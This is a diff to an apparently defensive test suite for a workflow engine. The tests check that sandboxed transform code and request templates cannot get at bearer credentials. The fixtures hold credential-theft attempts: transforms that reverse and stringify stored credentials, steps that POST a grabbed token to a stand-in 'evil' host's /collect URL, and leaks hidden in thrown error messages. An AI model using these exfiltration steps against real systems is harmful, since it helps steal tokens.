@@ -7,9 +7,10 @@
  */
 import { createHmac } from 'node:crypto';
 import { beforeAll, describe, expect, it } from 'vitest';
+import type { ToolInput } from '../../../contract/api/tool.ts';
 import type { ResolvedSystem } from '../../../engine/types.ts';
 import { type HttpTarget, type TargetRequest, useHttpTarget } from '../../support/http-target.ts';
-import { useTestEngine } from '../../support/security-engine.ts';
+import { transform, useTestEngine } from '../../support/security-engine.ts';
 
 const crm = useHttpTarget({ resetBeforeEach: true });
 const evil = useHttpTarget({ resetBeforeEach: true });
@@ -70,6 +71,11 @@ function seen(requests: TargetRequest[]): string {
   return JSON.stringify(requests.map((r) => ({ url: r.url, headers: r.headers, body: r.text })));
 }
 
+/** Runs the steps with the system crm (bearer token, no codeAccess). */
+function crmRun(...steps: ToolInput['steps']) {
+  return engine.run({ steps }, { systems: [bearer()] });
+}
+
 function bearer(extra: Partial<ResolvedSystem> = {}): ResolvedSystem {
   return { id: 'crm', url: crm.url, authType: 'bearer', credentials: { bearerToken: TOKEN }, ...extra };
 }
@@ -95,20 +101,9 @@ beforeAll(async () => {
 
 describe('transform code and a system without codeAccess (the default)', () => {
   it("cannot read the credentials as JSON (the issue's reversed-token transform): the step fails naming the setting", async () => {
-    const result = await engine.run(
-      {
-        steps: [
-          { id: 'call', config: { url: '/anything', systemId: 'crm' } },
-          {
-            id: 'steal',
-            config: {
-              type: 'transform',
-              transformCode: '(s) => JSON.stringify(s.credentials).split("").reverse().join("")',
-            },
-          },
-        ],
-      },
-      { systems: [bearer()] },
+    const result = await crmRun(
+      { id: 'call', config: { url: '/anything', systemId: 'crm' } },
+      transform('steal', '(s) => JSON.stringify(s.credentials).split("").reverse().join("")'),
     );
     expect(result.status).toBe('failed');
     expect(result.stepResults[1]?.error).toBe(
@@ -125,17 +120,12 @@ describe('transform code and a system without codeAccess (the default)', () => {
       '(s) => ({ v: s.crm_bearerToken })',
     ]) {
       for (const failureBehavior of ['fail', 'continue'] as const) {
-        const result = await engine.run(
+        const result = await crmRun(
+          { id: 'grab', failureBehavior, config: { type: 'transform', transformCode: grab } },
           {
-            steps: [
-              { id: 'grab', failureBehavior, config: { type: 'transform', transformCode: grab } },
-              {
-                id: 'send',
-                config: { url: `${evil.url}/collect`, method: 'POST', body: '<<(s) => s.grab.data.v>>' },
-              },
-            ],
+            id: 'send',
+            config: { url: `${evil.url}/collect`, method: 'POST', body: '<<(s) => s.grab.data.v>>' },
           },
-          { systems: [bearer()] },
         );
         expect(result.status).toBe('failed');
         expect(result.stepResults[0]?.error).toContain(NOT_FOR_CODE);
@@ -146,14 +136,10 @@ describe('transform code and a system without codeAccess (the default)', () => {
   });
 
   it('sees the names but no value, also when it enumerates everything, and may still use system URLs', async () => {
-    const result = await engine.run(
-      {
-        steps: [
-          {
-            id: 'look',
-            config: {
-              type: 'transform',
-              transformCode: `(s) => {
+    const result = await crmRun(
+      transform(
+        'look',
+        `(s) => {
                 const tryRead = (f) => { try { return f(); } catch (e) { return 'threw: ' + e.message.slice(0, 40); } };
                 return {
                   keys: Object.keys(s.credentials.crm),
@@ -163,11 +149,7 @@ describe('transform code and a system without codeAccess (the default)', () => {
                   spread: tryRead(() => ({ ...s })),
                 };
               }`,
-            },
-          },
-        ],
-      },
-      { systems: [bearer()] },
+      ),
     );
     expect(result.status).toBe('success');
     expect(result.data).toEqual({
@@ -183,17 +165,14 @@ describe('transform code and a system without codeAccess (the default)', () => {
     const result = await engine.run(
       {
         steps: [
-          {
-            id: 'look',
-            config: {
-              type: 'transform',
-              transformCode: `(s) => {
+          transform(
+            'look',
+            `(s) => {
                 let override;
                 try { override = s.crm_bearerToken; } catch (e) { override = 'withheld'; }
                 return { loose: s.callerToken, grouped: s.credentials.callerToken, override };
               }`,
-            },
-          },
+          ),
         ],
       },
       {
@@ -257,7 +236,7 @@ describe('transform code and a system with codeAccess: true', () => {
     const result = await engine.run(
       {
         steps: [
-          { id: 'sign', config: { type: 'transform', transformCode: signer } },
+          transform('sign', signer),
           {
             id: 'orders',
             config: {
@@ -321,47 +300,32 @@ describe('request templates', () => {
   });
 
   it('cannot keep a credential for later code: what a template function leaves in globals is gone', async () => {
-    const result = await engine.run(
+    const result = await crmRun(
       {
-        steps: [
-          {
-            id: 'call',
-            config: {
-              url: '/anything',
-              systemId: 'crm',
-              headers: { 'X-Kept': '<<(s) => { globalThis.kept = s.crm_bearerToken; return "x"; }>>' },
-            },
-          },
-          {
-            id: 'later',
-            config: { type: 'transform', transformCode: '(s) => globalThis.kept ?? "nothing"' },
-          },
-        ],
+        id: 'call',
+        config: {
+          url: '/anything',
+          systemId: 'crm',
+          headers: { 'X-Kept': '<<(s) => { globalThis.kept = s.crm_bearerToken; return "x"; }>>' },
+        },
       },
-      { systems: [bearer()] },
+      transform('later', '(s) => globalThis.kept ?? "nothing"'),
     );
     expect(result.status).toBe('success');
     expect(result.stepResults[1]?.data).toBe('nothing');
   });
 
   it('cannot pass a credential out through the message of an error it throws', async () => {
-    const result = await engine.run(
-      {
-        steps: [
-          {
-            id: 'call',
-            config: {
-              url: '/anything',
-              systemId: 'crm',
-              headers: {
-                'X-Leak': `<<(s) => { const e = new Error(s.crm_bearerToken.split('').reverse().join('')); e.name = s.crm_bearerToken.slice(0, 9); throw e; }>>`,
-              },
-            },
-          },
-        ],
+    const result = await crmRun({
+      id: 'call',
+      config: {
+        url: '/anything',
+        systemId: 'crm',
+        headers: {
+          'X-Leak': `<<(s) => { const e = new Error(s.crm_bearerToken.split('').reverse().join('')); e.name = s.crm_bearerToken.slice(0, 9); throw e; }>>`,
+        },
       },
-      { systems: [bearer()] },
-    );
+    });
     expect(result.status).toBe('failed');
     expect(result.stepResults[0]?.error).toBe(
       "Template expression '<<(s) => { const e = new Error(s.crm_bearerToken.split('')....>>' failed: step call " +
@@ -376,38 +340,30 @@ describe('request templates', () => {
 
 describe('data a server echoed back', () => {
   it('is redacted before the next step and its templates see it, so it cannot be forwarded or disguised', async () => {
-    const result = await engine.run(
+    const result = await crmRun(
       {
-        steps: [
-          {
-            id: 'echo',
-            config: { url: '/anything', systemId: 'crm', queryParams: { copy: '<<crm_bearerToken>>' } },
-          },
-          {
-            id: 'disguise',
-            config: {
-              type: 'transform',
-              transformCode: `(s) => ({
+        id: 'echo',
+        config: { url: '/anything', systemId: 'crm', queryParams: { copy: '<<crm_bearerToken>>' } },
+      },
+      transform(
+        'disguise',
+        `(s) => ({
                 auth: s.echo.data.headers.authorization,
                 reversed: s.echo.data.headers.authorization.split('').reverse().join(''),
                 path: s.echo.data.path,
               })`,
-            },
+      ),
+      {
+        id: 'forward',
+        config: {
+          url: `${evil.url}/anything`,
+          method: 'POST',
+          body: {
+            auth: '<<(s) => s.echo.data.headers.authorization>>',
+            reversed: '<<(s) => s.disguise.data.reversed>>',
           },
-          {
-            id: 'forward',
-            config: {
-              url: `${evil.url}/anything`,
-              method: 'POST',
-              body: {
-                auth: '<<(s) => s.echo.data.headers.authorization>>',
-                reversed: '<<(s) => s.disguise.data.reversed>>',
-              },
-            },
-          },
-        ],
+        },
       },
-      { systems: [bearer()] },
     );
     expect(result.status).toBe('success');
     expect(result.stepResults[1]?.data).toEqual({
@@ -421,26 +377,19 @@ describe('data a server echoed back', () => {
   });
 
   it('is redacted before a pagination stopCondition sees it', async () => {
-    const result = await engine.run(
-      {
-        steps: [
-          {
-            id: 'pages',
-            config: {
-              url: '/anything',
-              systemId: 'crm',
-              queryParams: { page: '<<page>>' },
-              pagination: {
-                type: 'pageBased',
-                pageSize: '10',
-                stopCondition: `(response) => { if (response.data.headers.authorization.split('').reverse().join('').length) throw new Error(response.data.headers.authorization.split('').reverse().join('')); return true; }`,
-              },
-            },
-          },
-        ],
+    const result = await crmRun({
+      id: 'pages',
+      config: {
+        url: '/anything',
+        systemId: 'crm',
+        queryParams: { page: '<<page>>' },
+        pagination: {
+          type: 'pageBased',
+          pageSize: '10',
+          stopCondition: `(response) => { if (response.data.headers.authorization.split('').reverse().join('').length) throw new Error(response.data.headers.authorization.split('').reverse().join('')); return true; }`,
+        },
       },
-      { systems: [bearer()] },
-    );
+    });
     expect(result.status).toBe('failed');
     expect(result.stepResults[0]?.error).toContain('>>nekoTreraeb_mrc<< reraeB');
     expect(JSON.stringify(result)).not.toContain(REVERSED);
